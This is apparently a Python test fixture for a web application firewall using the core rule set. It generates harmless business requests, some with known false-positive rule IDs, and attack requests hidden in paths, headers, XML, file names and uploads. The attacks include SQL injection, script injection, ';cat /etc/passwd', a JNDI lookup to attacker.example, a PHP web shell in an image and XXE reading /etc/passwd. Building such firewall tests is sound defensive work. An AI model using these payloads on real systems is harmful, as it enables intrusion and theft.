"""Requests as business apps get them, for the core rule set: harmless ones, and attacks in places where rules seldom look.

Both lists are short sentences of ours in every place that a value can stand in. What is known to be refused though it is
harmless says by which rule; each such rule is of the core rule set, and shares its words with commands or queries.
"""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import quote, urlencode
from xml.sax.saxutils import quoteattr

if TYPE_CHECKING:
    from collections.abc import Iterator

FORM = {"content-type": "application/x-www-form-urlencoded"}
JSON = {"content-type": "application/json"}
XML = {"content-type": "application/xml"}
_PLAIN = {"host": "localhost", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)", "accept": "*/*"}
_BOUNDARY = "----FormBoundary7MA4YWxk"


class Sent(NamedTuple):
    """One request, and the rule that is known to refuse it though it is harmless."""

    title: str
    method: str
    target: str
    headers: dict[str, str]
    body: bytes
    known: str = ""

    @property
    def raw(self) -> bytes:
        """HTTP/1.1, one request on its connection."""
        headers = {**_PLAIN, **self.headers, "connection": "close"}
        if self.body or self.method in {"POST", "PUT", "PATCH"}:
            headers["content-length"] = str(len(self.body))
        lines = [f"{self.method} {self.target} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + self.body

    @property
    def all_headers(self) -> dict[str, str]:
        """Those that `raw` has, but for the framing."""
        return {**_PLAIN, **self.headers}


def form(*parts: tuple[str, bytes]) -> tuple[dict[str, str], bytes]:
    """Headers and body of a form with files (RFC 7578); a part: what stands in its disposition, and its content."""
    pieces = [
        f"--{_BOUNDARY}\r\nContent-Disposition: form-data; {head}\r\n\r\n".encode() + content + b"\r\n"
        for head, content in parts
    ]
    end = f"--{_BOUNDARY}--\r\n".encode()
    return {"content-type": f"multipart/form-data; boundary={_BOUNDARY}"}, b"".join(pieces) + end


def file(name: str, kind: str, content: bytes) -> tuple[str, bytes]:
    """A part that is a file."""
    return f'name="file"; filename="{name}"\r\nContent-Type: {kind}', content


_SENTENCES = {
    "Please select the right size from the list and update the order when it arrives.": "",
    "We need to drop the old table and chairs; the union meets on Friday and will delete its list.": "",
    "Insert the card into the reader, then select 'Continue' or 'Cancel'.": "",
    "If price > 100 and quantity < 5 then ask for approval -- thanks, Ada": "",
    "O'Brien said \"it's fine\" & he'd call back; see you at 5 o'clock": "",
    "He asked: where is it? And who ordered it? 1=1 is always true, isn't it?": "",
    "Join us: select from our menu, where 2 eat for 1!": "",
    "Password reset: ask the admin, then exec the script on the server": "",
    "1 or 2 people; 3 and 4 maybe": "",
    "Meeting at 10:00; agenda: 1) costs; 2) benefits # urgent": "",
    "Rock & Roll; R&D; Q&A; 50% off!": "",
    "Can you ping me after lunch? I'll find the time to test it; mail me": "",
    "script for the play: <to be written>": "",
    "a < b && b > c": "",
    "see file C:\\Users\\ada\\Documents\\report.docx": "",
    "https://example.com/a?b=c&d=e#f": "",
    "<b>bold</b> and <i>italic</i>": "",
    "Tom <tom@example.com>, Jerry <jerry@example.com>": "",
    "10' x 12' room, 6\" pipes": "",
    "+49 (0)30 / 123-45 67": "",
    "Order by Friday or we union with the having team; group by name in the case of doubt.": "942230",
    "echo back to me; cat food; list of items": "932100",
    "use ${customer.name} in the template": "932130",
    "if (a) { b } else { c }": "942100",
    "Hello; drop me a line": "942100",
}
_NAMES = (
    "O'Brien", "D'Angelo-Smith", "Müller", "Nguyễn Văn", "Select Committee", "Null", "Drop", "Union Bank", "Order & Sons",
    "Fitz'Gerald Jr.", "AT&T", "1&1 Mail", "Or, Sam", "And Company",
)  # fmt: skip
_TYPES = (
    "application/json; charset=utf-8", "application/merge-patch+json", "application/json-patch+json",
    "application/vnd.api+json", "application/problem+json", "application/scim+json", "application/cloudevents+json",
    "text/plain;charset=UTF-8",
)  # fmt: skip


def harmless() -> Iterator[Sent]:
    """What nothing should stop."""
    for text, known in _SENTENCES.items():
        yield from _in_every_place(text, known)
    for name in _NAMES:
        yield from _in_every_place(name, "")
        yield Sent(f"cookie {name}", "GET", "/", {"cookie": f"name={quote(name)}; sid=abc123=="}, b"")
        yield Sent(f"name of a file {name}", "POST", "/", *form(file(f"{name}.csv", "text/csv", b"a;b\r\n1;2\r\n")))
    for method in ("GET", "HEAD", "OPTIONS", "DELETE"):
        yield Sent(f"method {method}", method, "/orders/1", {}, b"")
    for method in ("POST", "PUT", "PATCH"):
        yield Sent(f"method {method}", method, "/orders/1", JSON, b'{"a": 1}')
    for kind in _TYPES:
        yield Sent(f"type {kind}", "POST", "/orders", {"content-type": kind}, b'{"a": "b", "c": [1, null, {"d": "e"}]}')
    yield from _others()


def _in_every_place(text: str, known: str) -> Iterator[Sent]:
    both = {"note": text, "who": {"name": "D'Angelo"}}
    table = 'id;note\r\n1;"{}"\r\n'.format(text.replace('"', '""')).encode()
    yield Sent(f"form {text}", "POST", "/orders", FORM, urlencode({"note": text, "name": "O'Brien"}).encode(), known)
    yield Sent(f"json {text}", "POST", "/orders", JSON, json.dumps(both).encode(), known)
    yield Sent(f"query {text}", "GET", "/search?" + urlencode({"q": text}), {}, b"", known)
    if not set(text) & set("/\\"):  # encoded ones are refused by the gateway, whatever is around them
        yield Sent(f"path {text}", "GET", "/search/" + quote(text, safe="").replace("%25", "%"), {}, b"", known)
    if text.isascii():
        yield Sent(f"header {text}", "GET", "/search", {"x-note": text}, b"", known)
    xml = f"<order note={quoteattr(text)}><by>ada</by></order>".encode()
    yield Sent(f"xml {text}", "POST", "/orders", XML, xml, known)
    yield Sent(f"table {text}", "POST", "/up", *form(('name="a"', b"my orders"), file("o.csv", "text/csv", table)))


def _others() -> Iterator[Sent]:
    query = {"query": "query Q($id: ID!) { order(id: $id) { lines { name price } } }", "variables": {"id": "7"}}
    rows = [{"id": number, "name": f"item {number}", "note": "it's for O'Brien's team"} for number in range(200)]
    rich = '<p>Hello <strong>you</strong>, see <a href="https://example.com">this</a></p><ul><li>a</li></ul>'
    words = "\n".join(_SENTENCES).encode()
    yield Sent("graphql", "POST", "/graphql", JSON, json.dumps(query).encode())
    yield Sent("200 rows", "POST", "/orders", JSON, json.dumps(rows).encode())
    yield Sent("rich text", "POST", "/orders", JSON, json.dumps({"html": rich}).encode())
    yield Sent("formula", "POST", "/orders", FORM, urlencode({"f": "=SUM(A1:A10)*1.19"}).encode())
    yield Sent("a pattern", "POST", "/orders", JSON, json.dumps({"pattern": "^[a-z]+(\\d{2,4})?$"}).encode())
    yield Sent("100 KiB of prose", "POST", "/orders", JSON, json.dumps({"note": "it's a long way " * 6400}).encode())
    yield Sent("a text", "POST", "/notes", {"content-type": "text/plain"}, b"[draft] hello,\nit's 50% done & fine")
    yield Sent("a text file", "POST", "/up", *form(file("notes.txt", "text/plain", words)))
    yield Sent("a page", "POST", "/up", *form(file("mail.html", "text/html", b"<!DOCTYPE html><h1>Hello</h1>")))
    yield Sent("a drawing", "POST", "/up", *form(file("logo.svg", "image/svg+xml", b'<svg><path d="M0 0"/></svg>')))
    yield Sent("an invoice", "POST", "/up", *form(file("i.xml", "text/xml", b'<?xml version="1.0"?><i n="1"/>')))
    for target in (
        "/reports/2026/11/25/summary.json", "/o/6f9619ff-8b86-d011-b42d-00c04fc964ff", "/orders;color=red;size=10/items",
        "/odata/Orders(42)/Items('A-1')", "/users/ada.b%2Bc@example.com", "/select/order/by/test/find/time/set",
        "/r?from=2026-01-01T00:00:00Z&to=2026-12-31T23:59:59%2B01:00", "/o?filter=name%3D%3DMilk%3Bprice%3Dgt%3D20",
    ):  # fmt: skip
        yield Sent(f"address {target}", "GET", target, {}, b"")
    yield Sent("a browser", "GET", "/", _BROWSER, b"")
    for agent in ("python-requests/2.31", "python-httpx/0.27", "curl/8.0", "Java/17.0.1", "Go-http-client/1.1"):
        yield Sent(f"client {agent}", "GET", "/", {"user-agent": agent}, b"")
    url = json.dumps({"callback": "https://10.0.0.5/hook"}).encode()
    yield Sent("address of a host in the company", "POST", "/hooks", JSON, url, "931100")
    yield Sent("odata", "GET", "/o?" + urlencode({"$filter": "Price gt 20", "$select": "Name"}), {}, b"", "942360")


_BROWSER = {
    "accept": "text/html,application/xhtml+xml;q=0.9", "accept-language": "de-DE,de;q=0.9", "cache-control": "no-cache",
    "sec-ch-ua": '"Chromium";v="140", "Not A(Brand";v="8"', "sec-ch-ua-platform": '"Linux"', "dnt": "1",
    "origin": "https://lunch.example", "referer": "https://lunch.example/x?y=z", "x-requested-with": "XMLHttpRequest",
    "if-none-match": 'W/"abc"', "if-modified-since": "Wed, 21 Oct 2026 07:28:00 GMT", "x-csrf-token": "abc/+==",
    "baggage": "userId=alice,serverNode=DF%2028", "tracestate": "a=1,b=2", "prefer": "return=minimal, respond-async",
    "idempotency-key": '"8e03978e-40d5-43e8-bc93-6894a57f9324"', "x-hub-signature-256": "sha256=abc",
}  # fmt: skip

_ATTACKS = {
    "query": "1' OR '1'='1' UNION SELECT password FROM users--",
    "script": "<script>alert(1)</script>",
    "command": ";cat /etc/passwd",
    "look-up": "${jndi:ldap://attacker.example/a}",
}


def hidden() -> Iterator[Sent]:
    """Attacks where the first paranoia level of the core rule set does not look by itself."""
    for (name, text), place in itertools.product(
        _ATTACKS.items(), (_in_path, _in_headers, _in_xml, _in_files, _in_text)
    ):
        yield from (one._replace(title=f"{name} {one.title}") for one in place(text))
    yield from _uploads()
    for title, xml in _XML.items():
        yield Sent(title, "POST", "/", XML, xml)
    one = json.dumps({"a": "lorem ipsum's " * 4000 + "<img src=x onerror=alert(1)>"}).encode()
    yield Sent("script at the end of 50 KiB", "POST", "/", JSON, one)
    yield Sent(
        "query in parts of a mail", "POST", "/", {"content-type": "multipart/related; boundary=x"}, b"--x\r\n\r\n1"
    )


def _in_path(text: str) -> Iterator[Sent]:
    # What is encoded as a slash is refused by the gateway; here it is one.
    yield Sent("in a path", "GET", f"/orders/{quote(text)}/lines", {}, b"")
    yield Sent("in a parameter of a path", "GET", f"/orders;by={quote(text)}/lines", {}, b"")


def _in_headers(text: str) -> Iterator[Sent]:
    yield Sent("in a header of the app's own", "GET", "/", {"x-customer": text}, b"")
    yield Sent("in the addresses that a call came by", "GET", "/", {"x-forwarded-for": text}, b"")


def _in_xml(text: str) -> Iterator[Sent]:
    yield Sent("in an attribute", "POST", "/", XML, f"<a b={quoteattr(text)}/>".encode())
    yield Sent("in an attribute of SOAP", "POST", "/", {"content-type": "application/soap+xml"},
               f"<a><b c={quoteattr(text)}/></a>".encode())  # fmt: skip


def _in_files(text: str) -> Iterator[Sent]:
    yield Sent("in the name of a file", "POST", "/", *form(file(text.replace('"', "%22"), "text/plain", b"x")))
    yield Sent("in the name of a part", "POST", "/", *form((f'name="{text}"; filename="x.txt"', b"x")))


def _in_text(text: str) -> Iterator[Sent]:
    plain = {"content-type": "text/plain"}
    escaped = "".join(f"\\u{ord(char):04x}" for char in text)
    yield Sent("in text", "POST", "/", plain, f"q={text}".encode())
    yield Sent("in JSON that calls itself text", "POST", "/", plain, f'{{"q": "{escaped}"}}'.encode())


def _uploads() -> Iterator[Sent]:
    for name in ("x.jsp", "x.aspx", "x.phar", "x.php", "../../etc/passwd", ".htaccess"):
        yield Sent(f"a file called {name}", "POST", "/", *form(file(name, "text/plain", b"x")))
    for kind, content in {
        "PHP": b"GIF89a<?php system($_GET['c']); ?>", "JSP": b'<%@ page import="java.io.*" %>',
        "an entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "a picture that runs": b"<svg onload=alert(1)>",
    }.items():  # fmt: skip
        yield Sent(f"a file with {kind}", "POST", "/", *form(file("x.png", "image/png", content)))


_XML = {
    "an entity from a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "entities that grow": b'<!DOCTYPE a [<!ENTITY x "yyyy"><!ENTITY z "&x;&x;">]><a>&z;</a>',
    "another alphabet": b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>',
}
